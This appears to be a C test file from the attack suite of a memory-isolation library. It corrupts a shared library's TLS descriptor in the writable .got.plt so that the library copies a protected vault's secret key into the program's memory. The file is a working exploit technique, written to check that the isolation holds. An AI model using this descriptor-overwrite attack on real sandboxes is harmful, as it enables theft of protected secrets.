/* attacks-rev22-tlsdesc.test: a hardened program dlopens the vault
 * object (argv[1]), which calls rev15_compare of librev22-tlsdesc.so, a
 * start-up library whose TLS descriptor lies in its writable .got.plt.
 * The default domain, by one key-0 store (attacker model A), sets the
 * descriptor's argument word (the variable's offset from the thread
 * pointer, which ld.so's _dl_tlsdesc_return answers) so that the
 * library's thread-local buffer is the program's array stolen: the
 * library then copies the vault's key there with the vault's rights.
 * With "control" the word is left alone; with "nobody" it runs as nobody.
 * Exits 0 only if the key reached the program's memory. */
#define _GNU_SOURCE
#include <bulkhead.h>
#include <dlfcn.h>
#include <elf.h>
#include <grp.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include "attack-args.h"
#include "got-slot.h"

BULKHEAD_DATA(local) static int local_value = 7;
BULKHEAD_ENTRY(local) int local_get(void) { return local_value; }

static char guess[64] = "a guess";
static char stolen[64];

/* The first R_X86_64_TLSDESC word of the object named *arg (DT_JMPREL). */
static int find_desc(struct dl_phdr_info *info, size_t size, void *arg) {
  (void)size;
  uintptr_t *out = arg;
  if (!strstr(info->dlpi_name, "librev22-tlsdesc.so"))
    return 0;
  const ElfW(Rela) *r = (const ElfW(Rela) *)got_dyn(info, DT_JMPREL, 1);
  size_t n = r ? got_dyn(info, DT_PLTRELSZ, 0) / sizeof *r : 0;
  for (size_t i = 0; r && i < n; i++)
    if (ELF64_R_TYPE(r[i].r_info) == R_X86_64_TLSDESC && !*out)
      *out = info->dlpi_addr + r[i].r_offset;
  return 1;
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  become_nobody_if_asked(argc, argv);
  printf("local: %d\n", local_get());
  fflush(stdout);
  void *h = dlopen(argv[1], RTLD_NOW);
  int (*check)(char *) = h ? (int (*)(char *))dlsym(h, "vault_check") : NULL;
  if (!check) {
    printf("dlopen refused: %s\n", dlerror());
    return 2;
  }
  printf("registered; check: %d\n", check(guess));
  uintptr_t desc = 0;
  dl_iterate_phdr(find_desc, &desc);
  if (!desc) {
    puts("no TLS descriptor in librev22-tlsdesc.so");
    return 2;
  }
  if (!has_arg(argc, argv, "control")) {
    uintptr_t tp;
    __asm__("mov %%fs:0, %0" : "=r"(tp));
    ((uintptr_t *)desc)[1] = (uintptr_t)stolen - tp;
    puts("librev22-tlsdesc.so's TLS descriptor now names the program's array");
  }
  fflush(stdout);
  printf("check: %d\n", check(guess));
  if (memmem(stolen, sizeof stolen, "TOP-SECRET", 10)) {
    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
           stolen);
    return 0;
  }
  puts("nothing stolen");
  return 1;
}
